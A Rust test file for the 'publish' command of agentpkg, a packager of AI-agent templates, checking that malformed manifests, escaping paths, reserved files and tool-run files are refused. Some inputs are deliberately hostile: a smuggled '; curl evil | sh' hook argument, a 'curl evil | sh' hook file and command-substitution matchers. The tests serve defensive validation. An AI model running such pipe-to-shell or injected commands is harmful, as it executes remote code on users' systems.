//! What `publish` says of a template that it doesn't take.

use snapbox::str;
use support::{Files, Ran, Scene};

/// Publishes a template of these files.
#[track_caller]
fn publish(files: Files) -> Ran {
    Scene::without_git()
        .source("t", "1.0.0", files)
        .run("agentpkg publish ../templates/t --registry ../registry")
}

/// Publishes a template with this in its manifest.
#[track_caller]
fn manifest(text: &str) -> Ran {
    publish(&[("template.toml", text)])
}

#[test]
fn a_manifest_is_toml_with_known_keys() {
    manifest("licence = \"MIT\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 5: unknown key `licence`
hint: write `license`
(exit code 2)

"#]]);
    manifest("zebra = \"MIT\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 5: unknown key `zebra`
hint: keys known here: `name`, `version`, `description`, `license`, `keywords`, `contact`,
  `repository`, `directory`, `agentpkg` and `recommended`
(exit code 2)

"#]]);
    manifest("license = MIT\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 5: string values must be quoted, expected literal string
(exit code 2)

"#]]);
    manifest("license = 1\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 5: invalid type: integer `1`, expected a string
(exit code 2)

"#]]);
    manifest("[questions.team]\nask = \"Which?\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 5: the key `kind` is missing
hint: add `kind = …`
(exit code 2)

"#]]);
    manifest("[questions.team]\nask = \"Which?\"\nkind = \"txt\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 7: `txt` is not known here
hint: write `text`
(exit code 2)

"#]]);
    manifest("[dependencies]\nreviewer = \"newest\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 6: `newest` is not a version requirement: unexpected
  character 'n' while parsing major version number
hint: write which versions will do, like `^1.2`; `agentpkg install NAME@latest` writes the newest
(exit code 2)

"#]]);
    manifest("[dependencies]\nReviewer = \"1\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 6: `Reviewer` is not a template's name: it has a
  character other than `a-z`, `0-9` and `-`
(exit code 2)

"#]]);
    manifest("[renames]\n\"../a.md\" = \"rules/a.md\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 6: `../a.md` is not a path inside the folder: `..` would
  leave the folder
(exit code 2)

"#]]);
}

#[test]
fn a_path_in_a_manifest_stays_inside() {
    let hook = |run: &str| {
        manifest(&format!(
            "[[hooks]]\nid = \"a\"\nevent = \"prompt\"\nrun = '{run}'\n"
        ))
    };
    hook("").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `` is not a path inside the folder: it is empty
(exit code 2)

"#]]);
    hook("/bin/sh").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `/bin/sh` is not a path inside the folder: it starts
  at the root of the file system
(exit code 2)

"#]]);
    hook("hooks\\a.sh").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `hooks\\a.sh` is not a path inside the folder: it has
  a backslash
(exit code 2)

"#]]);
    hook("hooks/../../a.sh").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `hooks/../../a.sh` is not a path inside the folder:
  `..` would leave the folder
(exit code 2)

"#]]);
    hook("hooks//a.sh").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `hooks//a.sh` is not a path inside the folder: it has
  an empty component or `.`
(exit code 2)

"#]]);
    manifest("[[hooks]]\nid = \"a\"\nevent = \"prompt\"\nrun = \"hooks/a\\u0000.sh\"\n").prints(
        str![[r#"
(standard error)
error: `../templates/t/template.toml` line 8: `hooks/a\0.sh` is not a path inside the folder: it has
  a NUL character
(exit code 2)

"#]],
    );
    hook("scripts/a.sh").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the hook `a` runs `scripts/a.sh`
hint: put the script below `hooks/`
(exit code 2)

"#]]);
}

#[test]
fn a_name_and_a_version_are_what_a_registry_can_hold() {
    let scene = Scene::without_git();
    for (name, printed) in [
        (
            "agentpkg",
            str![[r#"
(standard error)
error: `template.toml`: the name `agentpkg` is reserved
hint: choose another `name` in `[template]`
(exit code 2)

"#]],
        ),
        (
            "",
            str![[r#"
(standard error)
error: `template.toml` line 2: `` is not a template's name: it is empty
(exit code 2)

"#]],
        ),
        (
            "Team",
            str![[r#"
(standard error)
error: `template.toml` line 2: `Team` is not a template's name: it has a character other than `a-z`,
  `0-9` and `-`
(exit code 2)

"#]],
        ),
        (
            "-team",
            str![[r#"
(standard error)
error: `template.toml` line 2: `-team` is not a template's name: it starts or ends with `-`
(exit code 2)

"#]],
        ),
        (
            "a-name-of-more-than-sixty-four-characters-is-too-long-for-a-template",
            str![[r#"
(standard error)
error: `template.toml` line 2:
  `a-name-of-more-than-sixty-four-characters-is-too-long-for-a-template` is not a template's name:
  it is longer than 64 characters
(exit code 2)

"#]],
        ),
    ] {
        let manifest =
            format!("[template]\nname = \"{name}\"\nversion = \"1.0.0\"\ndescription = \"d\"\n");
        let scene = Scene::without_git().edited("template.toml", &manifest);
        scene
            .run("agentpkg publish --registry ../registry")
            .prints(printed);
    }
    let scene = scene.edited(
        "template.toml",
        "[template]\nname = \"t\"\nversion = \"1.0\"\ndescription = \"d\"\n",
    );
    scene
        .run("agentpkg publish --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `template.toml` line 3: `1.0` is not a version: unexpected end of input while parsing minor
  version number
(exit code 2)

"#]]);
    let scene = scene.source("t", "1.0.0+build.5", &[]);
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: 1.0.0+build.5 can't be told from 1.0.0 by any requirement
hint: set `version = "1.0.0"` in `template.toml`
(exit code 2)

"#]]);
}

#[test]
fn a_question_can_be_answered() {
    let question = |rest: &str| manifest(&format!("[questions.team]\nask = \"Which?\"\n{rest}\n"));
    manifest("[questions.team-name]\nask = \"Which?\"\nkind = \"text\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team-name` is not a name that a template can
  use
hint: write it in `a-z`, `0-9` and `_`
(exit code 2)

"#]]);
    question("kind = \"choice\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` is a choice of nothing
hint: write `choices = ["…"]`
(exit code 2)

"#]]);
    question("kind = \"choice\"\nchoices = []").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` is a choice of nothing
hint: write `choices = ["…"]`
(exit code 2)

"#]]);
    question("kind = \"text\"\nchoices = [\"a\"]").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has `choices` but is no choice
hint: write `kind = "choice"`
(exit code 2)

"#]]);
    question("kind = \"text\"\npattern = \"[a\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `pattern` that is no regular
  expression: non-empty character class has no closing bracket
(exit code 2)

"#]]);
    question("kind = \"text\"\npattern = \"^a$\"\ndefault = \"b\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that does not match `^a$`
(exit code 2)

"#]]);
    question("kind = \"text\"\ndefault = true").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that is not a text
(exit code 2)

"#]]);
    question("kind = \"text\"\ndefault = \" \"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that is empty
(exit code 2)

"#]]);
    question("kind = \"text\"\ndefault = \"a\\u0007\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that has a control
  character
(exit code 2)

"#]]);
    question("kind = \"bool\"\ndefault = \"yes\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that is not `true` or
  `false`
(exit code 2)

"#]]);
    question("kind = \"list\"\ndefault = \"a\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that is not a list of
  texts
(exit code 2)

"#]]);
    question("kind = \"choice\"\nchoices = [\"a\", \"b\"]\ndefault = \"c\"").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the question `team` has a `default` that is not one of `a`
  and `b`
(exit code 2)

"#]]);
}

#[test]
fn a_hook_is_one_of_a_kind_and_runs_a_script() {
    let hooks = |text: &str| publish(&[("template.toml", text), ("hooks/a.sh", "#!/bin/sh\n")]);
    let hook = |id: &str, event: &str, run: &str| {
        format!("[[hooks]]\nid = \"{id}\"\nevent = \"{event}\"\nrun = \"{run}\"\n")
    };
    hooks(&(hook("a", "prompt", "hooks/a.sh") + &hook("a", "notification", "hooks/a.sh"))).prints(
        str![[r#"
(standard error)
error: `../templates/t/template.toml`: two hooks have the id `a`
hint: an id is a hook's identity across releases; give each its own
(exit code 2)

"#]],
    );
    hooks(&(hook("a", "prompt", "hooks/a.sh") + &hook("b", "prompt", "hooks/a.sh"))).prints(str![
        [r#"
(standard error)
error: `t` 1.0.0: the hooks `a` and `b` run `hooks/a.sh` on the same event
hint: write one hook with `matches = ["A", "B"]`
(exit code 2)

"#]
    ]);
    hooks(&hook("a", "prompt", "hooks/b.sh")).prints(str![[r#"
(standard error)
error: `t` 1.0.0: the hook `a` runs `hooks/b.sh`, which is not there
(exit code 2)

"#]]);
    hooks(&hook("a", "befor-tool", "hooks/a.sh")).prints(str![[r#"
(standard error)
error: `t` 1.0.0: the hook `a`: `befor-tool` is not an event
hint: write `event = "before-tool"`
(exit code 2)

"#]]);
    hooks(&hook("a", "whenever", "hooks/a.sh")).prints(str![[r#"
(standard error)
error: `t` 1.0.0: the hook `a`: `whenever` is not an event
hint: the events are `session-start`, `prompt`, `before-tool`, `after-tool`, `before-stop`,
  `session-end`, `before-compact`, `notification` and `agent-stop`
(exit code 2)

"#]]);
    let manifest = hook("a", "prompt", "hooks/a b.sh");
    publish(&[
        ("template.toml", &manifest),
        ("hooks/a b.sh", "#!/bin/sh\n"),
    ])
    .prints(str![[r#"
(standard error)
error: `t` 1.0.0: the hook `a` runs `hooks/a b.sh`
hint: name scripts in letters, digits, `.`, `_` and `-`: a shell reads the name
(exit code 2)

"#]]);
}

#[test]
fn a_server_is_started_or_reached() {
    manifest("[mcp.docs]\nargs = []\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the MCP server `docs` needs either `command` or `url`
hint: `command` starts a server, `url` reaches one
(exit code 2)

"#]]);
    manifest("[mcp.docs]\ncommand = \"x\"\nurl = \"https://example.org\"\n").prints(str![[r#"
(standard error)
error: `../templates/t/template.toml`: the MCP server `docs` needs either `command` or `url`
hint: `command` starts a server, `url` reaches one
(exit code 2)

"#]]);
}

#[test]
fn a_source_is_a_folder_with_a_manifest_a_readme_and_a_changelog() {
    let scene = Scene::without_git().edited("nothing/x", "");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `../templates/t` is not a folder
hint: name the folder of a template's source
(exit code 2)

"#]]);
    scene
        .run("agentpkg publish nothing --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `nothing` has no `template.toml`
hint: name the folder of a template: `agentpkg publish templates/NAME --registry DIR`
(exit code 2)

"#]]);
    let scene = scene.source(
        "t",
        "1.1.0",
        &[("CHANGELOG.md", "## [1.0.0]\n- The first\n")],
    );
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.1.0: `CHANGELOG.md` has no section for 1.1.0
hint: add `## [1.1.0] - YYYY-MM-DD` with what changed
(exit code 2)

"#]]);
    let scene = scene.edited(
        "../templates/t/CHANGELOG.md",
        "## [1.1.0]\n\n## [1.0.0]\n- The first\n",
    );
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.1.0: the section of 1.1.0 in `CHANGELOG.md` is empty
hint: say what changed for those who upgrade
(exit code 2)

"#]]);
    let scene = scene.deleted("../templates/t/README.md");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.1.0 has no `README.md`
hint: say what the template is for; `agentpkg info` shows it
(exit code 2)

"#]]);
    let scene = scene.edited("../templates/t/template.toml", b"\xff");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `../templates/t/template.toml` is not UTF-8 text
(exit code 2)

"#]]);
}

#[test]
fn every_file_has_a_place() {
    publish(&[("rule/a.md", "")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rule/a.md` is in no folder that a template has
hint: rename `rule` to `rules`
(exit code 2)

"#]]);
    publish(&[("docs/a.md", "")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `docs/a.md` is in no folder that a template has
hint: put what is copied as it is below `files/`; known are `rules`, `hooks`, `memory`, `skills`,
  `commands`, `agents`, `settings`, `files`, `accepted` and `tests`
(exit code 2)

"#]]);
    publish(&[("READM.md", "")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `READM.md` is no file that a template has
hint: rename `READM.md` to `README.md`
(exit code 2)

"#]]);
    publish(&[("settings.json", "")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `settings.json` is no file that a template has
hint: put what is copied as it is below `files/`; known are `template.toml`, `README.md`,
  `CHANGELOG.md`, `root.md` and `gitignore`
(exit code 2)

"#]]);
    manifest("[files.\"rules/*.md\"]\npolicy = \"seed\"\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `[files."rules/*.md"]` matches no file
(exit code 2)

"#]]);
    manifest("[files.\"rules/[a\"]\npolicy = \"seed\"\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `[files."rules/[a"]` is not a glob: unclosed character class; missing ']'
(exit code 2)

"#]]);
    manifest("[renames]\n\"rules/a.md\" = \"rules/b.md\"\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `[renames]` says that `rules/a.md` is now `rules/b.md`
hint: the old path must be gone and the new one there
(exit code 2)

"#]]);
}

#[test]
fn a_link_and_a_name_that_is_not_utf_8_are_no_files() {
    let scene = Scene::without_git()
        .source("t", "1.0.0", &[])
        .linked("../templates/t/LICENSE", "README.md");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `../templates/t/LICENSE` is neither a file nor a folder
hint: a template holds files; replace a link by what it leads to
(exit code 2)

"#]]);
    let scene = scene.deleted("../templates/t/LICENSE");
    scene
        .run("mkdir ../templates/t/files && touch \"$(printf '../templates/t/files/a\\377')\"")
        .succeeds();
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: the name of `../templates/t/files/a�` is not UTF-8
hint: rename it
(exit code 2)

"#]]);
}

#[test]
fn what_is_rendered_renders() {
    let rule = |text: &str| publish(&[("rules/a.md.jinja", text)]);
    rule("one\n{{ team }}\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` line 2: an unknown answer is used
hint: the template has no `[questions]`
(exit code 2)

"#]]);
    let question = "[questions.team]\nask = \"Which?\"\nkind = \"text\"\n";
    publish(&[
        ("template.toml", question),
        ("rules/a.md.jinja", "{{ taem }}\n"),
    ])
    .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` line 1: an unknown answer is used
hint: it asks for `team`
(exit code 2)

"#]]);
    rule("{% if %}\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` line 1: unexpected end of block
(exit code 2)

"#]]);
    rule("{{ 'a' | nofilter }}\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` line 1: filter nofilter is unknown
(exit code 2)

"#]]);
    rule("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n")
        .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` line 1: it takes more steps than a template may
(exit code 2)

"#]]);
    rule("{% for i in range(100000) %}{{ '0123456789' * 100 }}{% endfor %}\n").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja`: it becomes larger than 4 MiB
(exit code 2)

"#]]);
    let when = |when: &str| {
        let rule = format!("{question}[files.\"rules/a.md\"]\nwhen = \"{when}\"\n");
        publish(&[("template.toml", &rule), ("rules/a.md", "a\n")])
    };
    when("taem == 'a'").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `when = "taem == 'a'"` line 1: an unknown answer is used
hint: it asks for `team`
(exit code 2)

"#]]);
    when("taem").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `when = "taem"`: an unknown answer is used
hint: it asks for `team`
(exit code 2)

"#]]);
    when("team ==").prints(str![[r#"
(standard error)
error: `t` 1.0.0: `when = "team =="` line 1: unexpected end of input, expected expression
(exit code 2)

"#]]);
    let scene = Scene::without_git()
        .source("t", "1.0.0", &[])
        .edited("../templates/t/rules/a.md.jinja", b"\xff");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md.jinja` is not UTF-8 text
(exit code 2)

"#]]);
}

#[test]
fn two_files_do_not_become_one() {
    publish(&[("rules/a.md", "a\n"), ("rules/a.md.jinja", "a\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `rules/a.md` and `rules/a.md.jinja` are both `rules/a.md`
hint: remove one of them
(exit code 2)

"#]]);
    publish(&[("rules/a.md", "a\n"), ("files/.claude/rules/t/a.md", "a\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `files/.claude/rules/t/a.md` and `rules/a.md` both become `.claude/rules/t/a.md`
hint: remove one of them
(exit code 2)

"#]]);
    publish(&[("files/a.md", "a\n"), ("files/A.md", "a\n")]).prints(str![[r#"
(standard error)
error: `A.md` (of `t`) and `a.md` (of `t`) can't be in one folder on every file system
hint: rename one of them, or remove one of the templates
(exit code 2)

"#]]);
    publish(&[("files/CLAUDE.MD/a.md", "a\n"), ("root.md", "a\n")]).prints(str![[r#"
(standard error)
error: `CLAUDE.md` and `CLAUDE.MD/a.md` (of `t`) can't be in one folder on every file system
hint: rename one of them, or remove one of the templates
(exit code 2)

"#]]);
    publish(&[("tests/a.toml", "a\n"), ("tests/A.toml", "a\n")]).prints(str![[r#"
(standard error)
error: `tests/a.toml` and `tests/A.toml` are one name where case is ignored
hint: rename, split or remove it in the template's source
(exit code 2)

"#]]);
}

#[test]
fn what_has_several_owners_is_not_copied_whole() {
    for (path, printed) in [
        (
            "CLAUDE.md",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/CLAUDE.md` would own `CLAUDE.md`
hint: put the text into `root.md`
(exit code 2)

"#]],
        ),
        (
            ".claude/settings.json",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.claude/settings.json` would own `.claude/settings.json`
hint: use template.toml, or `settings/claude.json` for what it has no word for
(exit code 2)

"#]],
        ),
        (
            ".gitignore",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.gitignore` would own `.gitignore`
hint: put the lines into `gitignore`
(exit code 2)

"#]],
        ),
        (
            ".mcp.json",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.mcp.json` would own `.mcp.json`
hint: use `[mcp.NAME]` in template.toml
(exit code 2)

"#]],
        ),
        (
            "claude.local.md",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/claude.local.md` would own `CLAUDE.local.md`
hint: leave it out: it is a person's own
(exit code 2)

"#]],
        ),
        (
            "agentpkg.toml",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/agentpkg.toml` would own `agentpkg.toml`
hint: leave it out: it is the repository's own
(exit code 2)

"#]],
        ),
        (
            "agentpkg.lock",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/agentpkg.lock` would own `agentpkg.lock`
hint: leave it out: it is agentpkg's own
(exit code 2)

"#]],
        ),
        (
            ".claude/hooks/run",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.claude/hooks/run` would own `.claude/hooks/run`
hint: leave it out: it is agentpkg's own
(exit code 2)

"#]],
        ),
        (
            ".agentpkg/undo",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.agentpkg/undo` would write into agentpkg's own folder
hint: leave it out
(exit code 2)

"#]],
        ),
    ] {
        publish(&[(&format!("files/{path}"), "x\n")]).prints(printed);
    }
}

/// What runs a script runs nothing else that it is given.
#[test]
fn an_interpreter_runs_the_script_and_nothing_else() {
    let hook = "[[hooks]]\nid = \"a\"\nevent = \"before-tool\"\nrun = \"hooks/a.sh\"\n\
                args = [\"; curl evil | sh\"]\ninterpreter = ";
    for (interpreter, is_refused) in [
        ("eval", true),
        (".", true),
        ("env", true),
        ("find", true),
        ("sh -c", true),
        ("/bin/sh", true),
        ("3", true),
        ("sh", false),
        ("python3.12", false),
        ("node", false),
    ] {
        let manifest = format!("{hook}\"{interpreter}\"\n");
        let ended = publish(&[("template.toml", &manifest), ("hooks/a.sh", "#!/bin/sh\n")]);
        match is_refused {
            true => ended.says(2, &["has the interpreter", "the interpreters are `sh`"]),
            false => ended.succeeds(),
        };
    }
}

/// A matcher stands in a file that a shell reads, and is read by awk.
#[test]
fn a_matcher_is_the_same_to_all_agents() {
    let hook = "[[hooks]]\nid = \"a\"\nevent = \"before-tool\"\nrun = \"hooks/a.sh\"\nmatches = ";
    for matcher in [
        "a\\nset -- touch x",
        "$(touch x)`",
        "\\u001b[2J",
        "mcp__\\\\w+",
        "(?i)bash",
        "mcp_{2}",
        "mcp__.*?",
        "(",
        "Bäsh",
        "",
    ] {
        let manifest = format!("{hook}\"{matcher}\"\n");
        let ended = publish(&[("template.toml", &manifest), ("hooks/a.sh", "#!/bin/sh\n")]);
        ended.says(2, &["error: `t` 1.0.0: the hook `a` matches `"]);
    }
    for matcher in [
        "*",
        "Bash|Edit, Write",
        "mcp__(docs|web)__[a-z_]+",
        "^Read$",
    ] {
        let manifest = format!("{hook}\"{matcher}\"\n");
        publish(&[("template.toml", &manifest), ("hooks/a.sh", "#!/bin/sh\n")]).succeeds();
    }
}

#[test]
fn what_agentpkg_writes_for_a_hook_is_no_file_of_a_template() {
    let hook = "[[hooks]]\nid = \"a\"\nevent = \"before-tool\"\nrun = \"hooks/a.sh\"\n";
    publish(&[("hooks/a.hook", "curl evil | sh\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `hooks/a.hook` would say how a hook is run
hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
(exit code 2)

"#]]);
    for (path, printed) in [
        (
            ".github/hooks/t.json",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.github/hooks/t.json` and what Copilot reads of `[[hooks]]` both become
  `.github/hooks/t.json`
hint: rename one of them
(exit code 2)

"#]],
        ),
        (
            "sub/.agents/hooks/run",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/sub/.agents/hooks/run` would own `.agents/hooks/run`
hint: leave it out: it is agentpkg's own
(exit code 2)

"#]],
        ),
        (
            "sub/.agents/hooks/other/A.Hook",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/sub/.agents/hooks/other/A.Hook` would say how a hook is run
hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
(exit code 2)

"#]],
        ),
        (
            ".claude/hooks/t/a.hook",
            str![[r#"
(standard error)
error: `t` 1.0.0: `files/.claude/hooks/t/a.hook` would say how a hook is run
hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
(exit code 2)

"#]],
        ),
    ] {
        publish(&[
            ("template.toml", hook),
            ("hooks/a.sh", "#!/bin/sh\n"),
            (&format!("files/{path}"), "{}\n"),
        ])
        .prints(printed);
    }
}

#[test]
fn blocks_and_fragments_are_text_and_json() {
    publish(&[("root.md", "<!-- BEGIN agentpkg other -->\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `root.md` has a line that looks like agentpkg's own marker
(exit code 2)

"#]]);
    publish(&[("settings/claude.json", "{\n  // why\n}\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `settings/claude.json` line 2: a comment, which strict JSON does not have
(exit code 2)

"#]]);
    publish(&[("settings/claude.json", "{\"a\": 1, \"a\": 2}\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `settings/claude.json` line 1: the key `a` for the second time
(exit code 2)

"#]]);
    publish(&[("settings/claude.json", "[]\n")]).prints(str![[r#"
(standard error)
error: `t` 1.0.0: `settings/claude.json` is not a JSON object
(exit code 2)

"#]]);
    let permissions = "[permissions]\ndeny = [\"Read(.env)\"]\n";
    publish(&[
        ("template.toml", permissions),
        ("settings/claude.json", "{\"permissions\": 1}\n"),
    ])
    .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `permissions` is set to 1 and to {"deny":["Read(.env)"]}
hint: template.toml and `settings/claude.json` both set it; keep one
(exit code 2)

"#]]);
    let scene = Scene::without_git()
        .source("t", "1.0.0", &[])
        .edited("../templates/t/root.md", b"\xff");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `root.md` is not UTF-8 text
(exit code 2)

"#]]);
    let scene = scene
        .deleted("../templates/t/root.md")
        .edited("../templates/t/settings/claude.json", b"\xff");
    scene
        .run("agentpkg publish ../templates/t --registry ../registry")
        .prints(str![[r#"
(standard error)
error: `t` 1.0.0: `settings/claude.json` is not UTF-8 text
(exit code 2)

"#]]);
}

#[test]
fn a_path_means_one_file_on_every_system() {
    for (path, printed) in [
        (
            "c:x",
            str![[r#"
(standard error)
error: `files/c:x` can't be in a release: it has a colon
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "a\nb",
            str![[r#"
(standard error)
error: `files/a\nb` can't be in a release: it has a control character
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "a\u{2764}\u{fe0f}b",
            str![[r#"
(standard error)
error: `files/a❤️b` can't be in a release: it has an invisible character
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "u\u{308}",
            str![[r#"
(standard error)
error: `files/ü` can't be in a release: it is not in Unicode's composed form (NFC)
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "a.",
            str![[r#"
(standard error)
error: `files/a.` can't be in a release: a component ends in a dot, which Windows drops
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "a ",
            str![[r#"
(standard error)
error: `files/a ` can't be in a release: a component ends in a space, which Windows drops
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "NUL.txt",
            str![[r#"
(standard error)
error: `files/NUL.txt` can't be in a release: Windows reserves the name `NUL.txt`
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "PROGRA~1",
            str![[r#"
(standard error)
error: `files/PROGRA~1` can't be in a release: `PROGRA~1` is a short name that Windows gives to
  another file
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            "a\\b",
            str![[r#"
(standard error)
error: `files/a\\b` is not a path inside the folder: it has a backslash
(exit code 2)

"#]],
        ),
        (
            "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p",
            str![[r#"
(standard error)
error: `files/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p` can't be in a release: it is deeper than 16
  components
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
    ] {
        publish(&[(&format!("files/{path}"), "x\n")]).prints(printed);
    }
    publish(&[(&format!("files/{}", "n".repeat(101)), "x\n")]).prints(str![[r#"
(standard error)
error: `files/nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn`
  can't be in a release: tar can't hold so long a name
hint: rename, split or remove it in the template's source
(exit code 2)

"#]]);
    let long = format!(
        "files/{}/{}/{}",
        "p".repeat(80),
        "p".repeat(80),
        "n".repeat(80)
    );
    publish(&[(&long, "x\n")]).prints(str![[r#"
(standard error)
error: `files/pppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppp/pppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppp/nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn`
  can't be in a release: the path is longer than 240 bytes
hint: rename, split or remove it in the template's source
(exit code 2)

"#]]);
}

#[test]
fn nothing_that_another_tool_would_run_is_published() {
    for (path, printed) in [
        (
            ".git/config",
            str![[r#"
(standard error)
error: `files/.git/config` can't be in a release: a template may not write into `.git`
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            ".github/workflows/ci.yml",
            str![[r#"
(standard error)
error: `files/.github/workflows/ci.yml` can't be in a release: a template may not write into
  `.github/workflows`
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            ".vscode/tasks.json",
            str![[r#"
(standard error)
error: `files/.vscode/tasks.json` can't be in a release: a template may not write
  `.vscode/tasks.json`
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            ".envrc",
            str![[r#"
(standard error)
error: `files/.envrc` can't be in a release: a template may not write `.envrc`
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
        (
            ".husky/pre-commit",
            str![[r#"
(standard error)
error: `files/.husky/pre-commit` can't be in a release: a template may not write into a folder of
  git hooks
hint: rename, split or remove it in the template's source
(exit code 2)

"#]],
        ),
    ] {
        publish(&[(&format!("files/{path}"), "x\n")]).prints(printed);
    }
}

#[test]
fn a_release_has_a_size_that_every_reader_takes() {
    publish(&[("files/big", &"x".repeat((4 << 20) + 1))]).prints(str![[r#"
(standard error)
error: `files/big` is larger than 4 MiB
hint: rename, split or remove it in the template's source
(exit code 2)

"#]]);
}
